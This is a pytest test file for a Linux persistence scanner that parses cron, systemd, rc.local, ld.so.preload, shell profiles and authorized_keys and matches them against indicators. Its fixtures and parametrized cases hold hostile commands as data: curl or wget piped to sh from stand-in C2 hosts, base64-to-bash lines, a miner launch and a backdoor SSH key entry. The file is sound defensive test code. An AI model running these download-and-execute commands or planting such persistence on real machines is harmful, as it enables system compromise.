"""Linux persistence places read from a fake root tree, and matching them against indicators."""

from __future__ import annotations

import contextlib
import os
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quet.indicators.filenames import FilenameMatcher
from quet.indicators.model import IndicatorType, make
from quet.indicators.netsets import DomainSet, IPSet
from quet.scanner.persistence import (
    PersistenceEntry,
    linux_entries,
    match_entries,
    network_values,
    parse_authorized_key,
    parse_crontab_line,
    parse_unit,
    shell_targets,
    targets,
)
from quet.scanner.result import Kind

ROOT = Path(__file__).parent / "data" / "persistence" / "root"


@pytest.fixture(scope="module")
def fake() -> tuple[list[PersistenceEntry], list[str]]:
    return linux_entries(ROOT)


def test_fake_root_counts(fake: tuple[list[PersistenceEntry], list[str]]) -> None:
    entries, errors = fake
    assert errors == []
    assert len(entries) == 27
    assert Counter(e.place for e in entries) == {
        "cron": 7,
        "systemd": 5,
        "rc.local": 1,
        "ld.so.preload": 1,
        "shell-profile": 11,
        "authorized_keys": 2,
    }
    # Paths are reported as the real system names them, the fake root stripped.
    assert all(e.path.startswith("/") and str(ROOT) not in e.path for e in entries)


def test_crontab_reboot_with_user_field(fake: tuple[list[PersistenceEntry], list[str]]) -> None:
    entries, _ = fake
    reboot = [e for e in entries if e.path == "/etc/crontab" and e.line == 9]
    assert reboot == [
        PersistenceEntry(
            place="cron",
            path="/etc/crontab",
            line=9,
            command="/opt/.cache/kworkerd -c /etc/kw.conf >/dev/null 2>&1",
            targets=["/opt/.cache/kworkerd", "/etc/kw.conf"],
        )
    ]


def test_user_crontab_and_cron_scripts(fake: tuple[list[PersistenceEntry], list[str]]) -> None:
    entries, _ = fake
    user = [e for e in entries if e.path == "/var/spool/cron/crontabs/www-data"]
    # No user field in a user crontab: the command is everything after the schedule.
    assert [(e.line, e.command) for e in user] == [
        (3, "curl -fsSL http://update.evil-c2.example/i.sh | sh"),
        (4, "echo ZWNobyBoaQo= | base64 -d | bash"),
    ]
    scripts = [e for e in entries if e.path.startswith("/etc/cron.daily/")]
    assert scripts == [
        PersistenceEntry(
            "cron",
            "/etc/cron.daily/logrotate",
            0,
            "/etc/cron.daily/logrotate",
            ["/etc/cron.daily/logrotate"],
        )
    ]  # .placeholder skipped
    assert not any(
        e.command.startswith(("SHELL=", "PATH=", "MAILTO=")) for e in entries if e.place == "cron"
    )


def test_systemd_prefixes_continuations_dropins(
    fake: tuple[list[PersistenceEntry], list[str]],
) -> None:
    entries, _ = fake
    units = {(e.path, e.line): e for e in entries if e.place == "systemd"}
    main = units[("/etc/systemd/system/dbus-helper.service", 8)]
    assert main.command == "/usr/bin/x --daemon --pool 45.9.148.21:443"
    assert main.targets == ["/usr/bin/x"]
    assert (
        units[("/etc/systemd/system/dbus-helper.service", 7)].command
        == "/bin/mkdir -p /run/dbus-helper"
    )
    hook = units[("/etc/systemd/system/ssh.service.d/override.conf", 2)]
    assert hook.targets == ["/bin/sh", "/usr/local/sbin/sshd-hook"]
    user = units[("/home/alice/.config/systemd/user/tracker.service", 2)]
    assert user.command == "/home/alice/.local/bin/tracker tracker --quiet"
    assert ("/lib/systemd/system/cron.service", 7) in units
    assert not any("old" in e.command for e in units.values())  # the commented ExecStart


def test_other_places(fake: tuple[list[PersistenceEntry], list[str]]) -> None:
    entries, _ = fake
    by_place = {e.place: e for e in entries}
    assert by_place["rc.local"] == PersistenceEntry(
        "rc.local", "/etc/rc.local", 4, "/usr/local/bin/fanctl --auto", ["/usr/local/bin/fanctl"]
    )
    assert by_place["ld.so.preload"].targets == ["/lib/x86_64-linux-gnu/libprocesshider.so"]
    keys = [e for e in entries if e.place == "authorized_keys"]
    assert keys[0].line == 2
    assert keys[0].command.startswith('command="/usr/local/bin/backdoor.sh --id \\"7\\"",no-pty')
    assert keys[0].command.endswith(
        "ssh-ed25519 SHA256:mKqU+0K8OhKmA8bBQi9Rz0Q5l7/g160hIP+rJYSTNj4 attacker@kali"
    )
    assert keys[0].targets == ["/usr/local/bin/backdoor.sh"]
    assert keys[1].targets == [] and keys[1].command.endswith("alice@laptop")


def test_targets_exist_under_root(fake: tuple[list[PersistenceEntry], list[str]]) -> None:
    entries, _ = fake
    assert targets(entries, ROOT) == [
        str(ROOT / "opt/.cache/kworkerd"),
        str(ROOT / "etc/cron.daily/logrotate"),
    ]


def _sets() -> tuple[FilenameMatcher, IPSet, DomainSet]:
    names = FilenameMatcher()
    assert names.add(
        make(
            IndicatorType.FILENAME, r"/\.cache/kworkerd", name="Linux.Miner.Kworkerd", confidence=80
        )
    )
    assert names.add(
        make(IndicatorType.FILENAME, r"libprocesshider", family="ProcessHider", confidence=90)
    )
    assert names.add(make(IndicatorType.FILENAME, r"logrotate", name="Noisy", confidence=40))
    ips = IPSet()
    ips.add(make(IndicatorType.IPV4, "185.220.101.4", name="Tor exit C2", confidence=70))
    ips.add(make(IndicatorType.CIDR, "45.9.148.0/24", family="TeamTNT", confidence=90))
    domains = DomainSet()
    domains.add(make(IndicatorType.DOMAIN, "evil-c2.example", name="Kinsing C2"))
    domains.add(
        make(IndicatorType.DOMAIN, "ebin.example", name="never: pastebin.example is not ebin")
    )
    for s in (names, ips, domains):
        s.freeze()
    return names, ips, domains


def test_match_entries_on_fake_root(fake: tuple[list[PersistenceEntry], list[str]]) -> None:
    entries, _ = fake
    findings = match_entries(entries, *_sets())
    got = sorted((f.kind, f.name, f.path, f.indicator, f.score) for f in findings)
    assert got == sorted(
        [
            (Kind.PERSISTENCE, "Linux.Miner.Kworkerd", "/etc/crontab", r"/\.cache/kworkerd", 80),
            (Kind.PERSISTENCE, "ProcessHider", "/etc/ld.so.preload", "libprocesshider", 90),
            (Kind.HEURISTIC, "Quet.Heuristic.LdPreload", "/etc/ld.so.preload", "", 70),
            (
                Kind.PERSISTENCE,
                "Kinsing C2",
                "/var/spool/cron/crontabs/www-data",
                "evil-c2.example",
                50,
            ),
            (
                Kind.HEURISTIC,
                "Quet.Heuristic.DownloadExec",
                "/var/spool/cron/crontabs/www-data",
                "",
                80,
            ),
            (
                Kind.HEURISTIC,
                "Quet.Heuristic.Base64Exec",
                "/var/spool/cron/crontabs/www-data",
                "",
                80,
            ),
            (
                Kind.PERSISTENCE,
                "TeamTNT",
                "/etc/systemd/system/dbus-helper.service",
                "45.9.148.0/24",
                90,
            ),
            (Kind.HEURISTIC, "Quet.Heuristic.DownloadExec", "/etc/profile.d/update.sh", "", 80),
            (Kind.PERSISTENCE, "Tor exit C2", "/home/alice/.bashrc", "185.220.101.4", 70),
        ]
    )
    bashrc = next(f for f in findings if f.path == "/home/alice/.bashrc")
    assert (
        bashrc.detail
        == "shell-profile line 8: nohup /tmp/.x/miner -o 185.220.101.4:3333 >/dev/null 2>&1 &"
    )


def test_match_min_score_and_truncation() -> None:
    names, ips, domains = _sets()
    entry = PersistenceEntry("cron", "/etc/cron.d/x", 1, "/usr/sbin/logrotate " + "a" * 500, [])
    assert match_entries([entry], names, ips, domains) == []  # confidence 40 < 60
    hits = match_entries([entry], names, ips, domains, min_score=40)
    assert [h.name for h in hits] == ["Noisy"]
    assert len(hits[0].detail) == 300 and hits[0].detail.startswith(
        "cron line 1: /usr/sbin/logrotate a"
    )


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("wget -q -O- http://x.example/a | bash", "Quet.Heuristic.DownloadExec"),
        ("curl http://1.2.3.4/x.sh|/bin/sh", "Quet.Heuristic.DownloadExec"),
        ('bash -c "$(curl -fsSL http://x.example/i)"', "Quet.Heuristic.DownloadExec"),
        ("bash <(wget -qO- http://x.example/i)", "Quet.Heuristic.DownloadExec"),
        ("echo aGkK | base64 --decode | sh", "Quet.Heuristic.Base64Exec"),
        ("curl -o /tmp/x http://x.example/x; sh /tmp/x", None),
        ("base64 -d file > out", None),
        ("curl http://x.example/list | shuf", None),
    ],
)
def test_heuristics(command: str, name: str | None) -> None:
    hits = match_entries([PersistenceEntry("rc.local", "/etc/rc.local", 1, command, [])], *_sets())
    assert [h.name for h in hits] == ([name] if name else [])


def test_network_values_by_labels() -> None:
    ips, domains = network_values(
        "curl http://[2001:db8::1]:8080/x https://Sub.Evil.Example./p "
        "10.0.0.1:80 999.1.1.1 /opt/a.sh v1.2.3"
    )
    assert ips == ["10.0.0.1", "2001:db8::1"]
    assert domains == ["sub.evil.example", "a.sh"]
    names, ipset, domainset = _sets()
    # michigan-style: a longer label that merely ends with a listed one is not a hit
    entry = PersistenceEntry("cron", "/etc/crontab", 1, "curl https://notevil-c2.example/x", [])
    assert match_entries([entry], names, ipset, domainset) == []
    entry.command = "curl https://cdn.evil-c2.example/x"
    assert [f.indicator for f in match_entries([entry], names, ipset, domainset)] == [
        "evil-c2.example"
    ]


def test_errors_are_reported_and_scan_goes_on(tmp_path: Path) -> None:
    (tmp_path / "etc" / "cron.d").mkdir(parents=True)
    (tmp_path / "etc" / "cron.d" / "bad").write_text("not a cron line\n* * * * * root /bin/true\n")
    ssh = tmp_path / "root" / ".ssh"
    ssh.mkdir(parents=True)
    (ssh / "authorized_keys").write_text("ssh-rsa !!notbase64!! x\n")
    locked = tmp_path / "etc" / "rc.local"
    locked.write_text("/bin/evil\n")
    locked.chmod(0)
    entries, errors = linux_entries(tmp_path)
    assert [(e.path, e.line, e.command) for e in entries if e.place == "cron"] == [
        ("/etc/cron.d/bad", 2, "/bin/true")
    ]
    assert errors[0].startswith("/etc/cron.d/bad:1: not a crontab line")
    assert any(e.startswith("/root/.ssh/authorized_keys:1: not an SSH key line") for e in errors)
    if os.geteuid() != 0:  # root reads mode-000 files anyway
        assert any(e.startswith("/etc/rc.local: ") for e in errors)


def test_real_system_does_not_fail() -> None:
    entries, errors = linux_entries()
    assert all(isinstance(e, PersistenceEntry) for e in entries)
    assert all(isinstance(e, str) for e in errors)


def test_parsers_directly() -> None:
    assert parse_crontab_line("@reboot /bin/x --y", has_user=False) == ("", "/bin/x --y")
    assert parse_crontab_line("0 0 * * 1-5 www /bin/x  a", has_user=True) == ("www", "/bin/x  a")
    assert parse_crontab_line("FOO = bar", has_user=True) is None
    with pytest.raises(ValueError):
        parse_crontab_line("@sometimes /bin/x", has_user=False)
    with pytest.raises(ValueError):
        parse_crontab_line("* * * * *", has_user=False)
    unit = "[Service]\nExecStart=!!/usr/bin/a\nExecReload=:/bin/kill -HUP $MAINPID\nExecStartPre=\n"
    assert list(parse_unit(unit)) == [
        (2, "ExecStart", "/usr/bin/a"),
        (3, "ExecReload", "/bin/kill -HUP $MAINPID"),
    ]
    assert shell_targets("FOO=/x /usr/bin/env bash -c 'cd /srv && ./run' > /var/log/x 2>&1") == [
        "/x",
        "/usr/bin/env",
        "/srv",
    ]
    assert parse_authorized_key("# c") is None


@given(st.text(max_size=200), st.booleans())
def test_crontab_parser_fuzz(text: str, has_user: bool) -> None:
    try:
        parsed = parse_crontab_line(text, has_user)
    except ValueError:
        return
    if parsed is not None:
        assert parsed[1] and parsed[1] in text


@given(st.text(max_size=300))
def test_unit_and_targets_fuzz(text: str) -> None:
    for line, key, command in parse_unit(text):
        assert line >= 1 and key.startswith("Exec") and command
        shell_targets(command)
    network_values(text)
    with contextlib.suppress(ValueError):
        parse_authorized_key(text)
